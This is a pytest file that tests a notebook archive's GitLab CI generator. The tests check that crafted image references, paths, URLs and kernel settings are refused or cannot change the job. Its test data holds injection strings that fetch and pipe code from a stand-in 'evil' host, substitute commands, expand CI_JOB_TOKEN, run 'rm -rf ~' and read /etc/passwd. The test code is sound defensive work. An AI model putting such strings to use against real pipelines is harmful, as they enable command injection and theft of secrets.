"""The generated `.gitlab-ci.yml` and the manifest: a crafted image reference or path cannot change the job.

The file is parsed back the way GitLab would (YAML) and its whole structure compared; crafted values are refused
by the validator before anything is written, and a runner handed one returns a verdict without touching GitLab.
"""

import json
from pathlib import Path

import pytest
import yaml
from django.core.exceptions import ValidationError

from repository.gitlab.ci import (
    CI_FILE,
    JOB_NAME,
    JOB_SCRIPT_LINE,
    UnsafeCiValue,
    checked_image,
    ci_file_text,
    job_manifest,
)
from repository.gitlab.runner import GitLabRunner
from repository.runners.base import InputFile, Outcome, RunSpec
from repository.validators import validate_container_image

DIGEST = "a" * 64
IMAGE = f"registry.example.org/group/image@sha256:{DIGEST}"
TAGGED = f"registry.example.org:5000/group/sub/image:1.2-py3@sha256:{DIGEST}"

CRAFTED_IMAGES = [
    f"{IMAGE}\nscript: [\"curl evil | sh\"]",  # a newline and a new key
    f"{IMAGE}\n",  # a final newline (the validator's `$` alone would let it through after strip)
    f"\n{IMAGE}",
    f"registry.example.org/x: y@sha256:{DIGEST}",  # ": " starts a mapping
    f"registry.example.org/x #comment@sha256:{DIGEST}",
    f"&anchor registry.example.org/x@sha256:{DIGEST}",  # YAML anchor
    f"*alias@sha256:{DIGEST}",
    f"!!python/object registry.example.org/x@sha256:{DIGEST}",  # a YAML tag
    f"registry.example.org/$(curl evil)@sha256:{DIGEST}",  # command substitution
    f"registry.example.org/`id`@sha256:{DIGEST}",  # backticks
    f"registry.example.org/$CI_JOB_TOKEN@sha256:{DIGEST}",  # GitLab expands variables in image:
    f"registry.example.org/x\"@sha256:{DIGEST}",  # quotes
    f"registry.example.org/x'@sha256:{DIGEST}",
    f"registry.example.org/x@sha256:{DIGEST}\"}}, \"evil\": {{\"script\": [\"id\"]}}, \"x\": {{\"y\": \"",  # JSON
    f"registry.example.org/x@sha256:{DIGEST}\n---\nevil:\n  script: [id]",  # a second document
    f"registry.example.org/x@sha256:{DIGEST}\u2028evil: 1",  # a Unicode line separator
    f"registry.example.org/x\t@sha256:{DIGEST}",
    "registry.example.org/x:latest",  # not pinned
    "",
]


def test_the_ci_file_is_valid_yaml_with_exactly_one_job_and_the_expected_structure():
    text = ci_file_text(image=TAGGED, timeout_seconds=2400, artifacts_expire_days=7)

    assert yaml.safe_load(text) == json.loads(text)  # the same document read as YAML and as JSON
    assert text.isascii()
    assert yaml.safe_load(text) == {
        "stages": ["verify"],
        JOB_NAME: {
            "stage": "verify",
            "image": {"name": TAGGED},
            "timeout": "40 minutes",
            "interruptible": True,
            "retry": 0,
            "variables": {"GIT_DEPTH": "1", "GIT_SUBMODULE_STRATEGY": "none"},
            "script": ["python3 .nbarchive/job.py"],
            "artifacts": {"when": "always", "name": "nbarchive-run", "paths": ["out/"], "expire_in": "7 days"},
        },
    }


def test_the_fake_gitlabs_ci_parser_plans_the_same_single_job():
    gitlab_ci = pytest.importorskip("tests.fakes.gitlab_ci")
    assert pytest.importorskip("tests.fakes.gitlab").CI_FILE == CI_FILE  # the fake reads it where the runner writes it
    text = ci_file_text(image=IMAGE, timeout_seconds=90)

    plan = gitlab_ci.plan_pipeline(text)

    assert [job.name for job in plan.jobs] == [JOB_NAME]
    job = plan.jobs[0]
    assert job.image == IMAGE and job.script == [JOB_SCRIPT_LINE] and job.timeout_seconds == 90
    assert job.artifact_paths == ["out/"] and job.artifact_when == "always"


@pytest.mark.parametrize("image", CRAFTED_IMAGES)
def test_crafted_image_references_are_refused_before_anything_is_written(image):
    if image == image.strip():  # the validator strips first; surrounding whitespace: see the test below
        with pytest.raises(ValidationError):
            validate_container_image(image)
    with pytest.raises(UnsafeCiValue):
        checked_image(image)
    with pytest.raises(UnsafeCiValue):
        ci_file_text(image=image, timeout_seconds=600)


@pytest.mark.parametrize("image", [f"{IMAGE}\n", f"\n{IMAGE}", f" {IMAGE}"])
def test_the_validator_alone_accepts_surrounding_whitespace_but_the_ci_file_does_not(image):
    # Why checked_image does more than call the validator: the validator strips first (forms store the stripped
    # value), so only the stricter check keeps a newline from an unstripped value out of the CI file.
    validate_container_image(image)
    with pytest.raises(UnsafeCiValue, match="whitespace or control"):
        checked_image(image)


@pytest.mark.parametrize("crafted", [value for value in CRAFTED_IMAGES if value])
def test_even_an_unchecked_string_cannot_change_the_structure_of_a_json_generated_file(crafted):
    # Belt and braces: if a value ever bypassed the check, json.dumps still keeps it one quoted scalar.
    config = {"stages": ["verify"], JOB_NAME: {"stage": "verify", "image": {"name": crafted},
                                                "script": [JOB_SCRIPT_LINE]}}
    text = json.dumps(config, indent=2, ensure_ascii=True)

    parsed = yaml.safe_load(text)

    assert set(parsed) == {"stages", JOB_NAME}
    assert parsed[JOB_NAME] == {"stage": "verify", "image": {"name": crafted}, "script": [JOB_SCRIPT_LINE]}


def test_the_script_line_is_a_constant_and_user_values_go_into_the_manifest_as_data(tmp_path):
    notebook = "analysis/$(id) `whoami` ; rm -rf ~.ipynb"
    spec = RunSpec(workdir=tmp_path, notebook_path=notebook, run_key="r1", container_image=IMAGE,
                   inputs=(InputFile(target_path="data/a b'; echo x.csv", url="https://nb.example.org/d?x=1&y=2",
                                     sha256="b" * 64, size=12),))

    manifest = job_manifest(spec, notebook)
    text = ci_file_text(image=IMAGE, timeout_seconds=600)

    assert manifest["notebook"] == notebook
    assert manifest["inputs"] == [{"target_path": "data/a b'; echo x.csv", "url": "https://nb.example.org/d?x=1&y=2",
                                   "sha256": "b" * 64, "size": 12}]
    assert "whoami" not in text and "echo x" not in text
    assert yaml.safe_load(text)[JOB_NAME]["script"] == [JOB_SCRIPT_LINE]


@pytest.mark.parametrize("target, url", [
    ("../outside.csv", "https://nb.example.org/d"),
    ("/etc/passwd", "https://nb.example.org/d"),
    ("data/x.csv", "https://nb.example.org/d\nmore"),
    ("data/x.csv", "file:///etc/passwd"),
    ("data/x\n.csv", "https://nb.example.org/d"),
])
def test_inputs_with_unsafe_paths_or_urls_are_refused(tmp_path, target, url):
    spec = RunSpec(workdir=tmp_path, notebook_path="n.ipynb", container_image=IMAGE,
                   inputs=(InputFile(target_path=target, url=url, sha256="b" * 64, size=1),))

    with pytest.raises(UnsafeCiValue):
        job_manifest(spec, "n.ipynb")


class _NoGitLab:
    def __getattr__(self, name):
        raise AssertionError(f"GitLab was called ({name}) for a run that must be refused first")


@pytest.mark.parametrize("image", CRAFTED_IMAGES)
def test_a_runner_given_a_crafted_image_answers_with_a_verdict_and_never_calls_gitlab(tmp_path, image):
    Path(tmp_path / "n.ipynb").write_text("{}")
    runner = GitLabRunner(client=_NoGitLab(), project="verify/runs")

    result = runner.run(RunSpec(workdir=tmp_path, notebook_path="n.ipynb", container_image=image, run_key="k"))

    assert result.outcome == Outcome.EXECUTION_FAILED
    assert "image" in result.message


@pytest.mark.parametrize("seconds", [0, -5, 10**9])
def test_an_out_of_range_timeout_is_refused(seconds):
    with pytest.raises(UnsafeCiValue):
        ci_file_text(image=IMAGE, timeout_seconds=seconds)


@pytest.mark.parametrize("overrides, ids", [
    ({"RUNNER": "gitlab", "GITLAB_URL": "", "GITLAB_TOKEN": "", "GITLAB_PROJECT": "",
      "SITE_URL": "https://nbarchive.example.org"},
     {"nbarchive.E021", "nbarchive.E022"}),
    ({"RUNNER": "local", "GITLAB_MIRROR_ENABLED": True, "GITLAB_URL": "https://gitlab.example.org",
      "GITLAB_TOKEN": "t", "GITLAB_MIRROR_NAMESPACE": ""}, {"nbarchive.E023"}),
    ({"RUNNER": "gitlab", "GITLAB_URL": "https://gitlab.example.org", "GITLAB_TOKEN": "t",
      "GITLAB_PROJECT": "verify/runs", "SITE_URL": "https://nbarchive.example.org"}, set()),
    ({"RUNNER": "gitlab", "GITLAB_URL": "https://gitlab.example.org", "GITLAB_TOKEN": "t",
      "GITLAB_PROJECT": "verify/runs", "SITE_URL": "http://127.0.0.1:8000"}, {"nbarchive.W020"}),
    ({"RUNNER": "docker"}, {"nbarchive.E020"}),
])
def test_the_system_check_refuses_an_unusable_gitlab_configuration(settings, overrides, ids):
    from repository.checks import gitlab_check

    for name, value in overrides.items():
        setattr(settings, name, value)

    assert {error.id for error in gitlab_check(None)} == ids


def test_the_jobs_kernel_gets_the_local_sandboxs_environment_through_the_manifest(tmp_path, monkeypatch):
    from repository.gitlab import job_kernel
    from repository.runners import sandbox

    # One allowlist for every runner: a variable added to the sandbox's reaches the GitLab job's kernel too.
    monkeypatch.setitem(sandbox.SANDBOX_ENV, "NBARCHIVE_PROBE", "42")
    monkeypatch.setitem(sandbox.SANDBOX_ENV, "PYTHONHASHSEED", "7")
    spec = RunSpec(workdir=tmp_path, notebook_path="n.ipynb", container_image=IMAGE)

    manifest = json.loads(json.dumps(job_manifest(spec, "n.ipynb")))  # as the job reads it back
    kernel = job_kernel.kernel_environment(manifest, "separate-uid", "/tmp/run")

    assert manifest["kernel_env"]["NBARCHIVE_PROBE"] == "42" and kernel["NBARCHIVE_PROBE"] == "42"
    assert kernel["PYTHONHASHSEED"] == "7"
    fixed = {key: value for key, value in sandbox.SANDBOX_ENV.items() if not value.startswith("/")}
    assert fixed.items() <= kernel.items()
    # Folders are the kernel's own, under its home in the job's run folder, never the sandbox's paths.
    assert kernel["HOME"] == "/tmp/run/home"
    assert kernel["XDG_CACHE_HOME"] == "/tmp/run/home/.cache" and kernel["MPLCONFIGDIR"] == "/tmp/run/home/matplotlib"
    assert set(manifest["kernel_folders"]) == {key for key, value in sandbox.SANDBOX_ENV.items()
                                              if value.startswith("/") and key not in ("PATH", "HOME")}
    # With a shared uid the image's HOME stays the job user's; the folders are still the kernel's own.
    shared = job_kernel.kernel_environment(manifest, "shared-uid", "/tmp/run")
    assert shared.get("HOME") != "/tmp/run/home" and shared["IPYTHONDIR"] == "/tmp/run/home/ipython"


@pytest.mark.parametrize("change", [
    {"kernel_folders": {"XDG_CACHE_HOME": "../../etc"}},
    {"kernel_folders": {"XDG_CACHE_HOME": "/etc"}},
    {"kernel_env": {"LD_PRELOAD x": "1"}},
    {"kernel_env": None},
])
def test_the_job_refuses_a_manifest_whose_kernel_environment_is_not_shaped_as_ci_writes_it(tmp_path, change):
    from repository.gitlab import job_kernel

    manifest = {**job_manifest(RunSpec(workdir=tmp_path, notebook_path="n.ipynb", container_image=IMAGE),
                               "n.ipynb"), **change}

    with pytest.raises(ValueError, match="kernel_"):
        job_kernel.kernel_environment(manifest, "separate-uid", "/tmp/run")
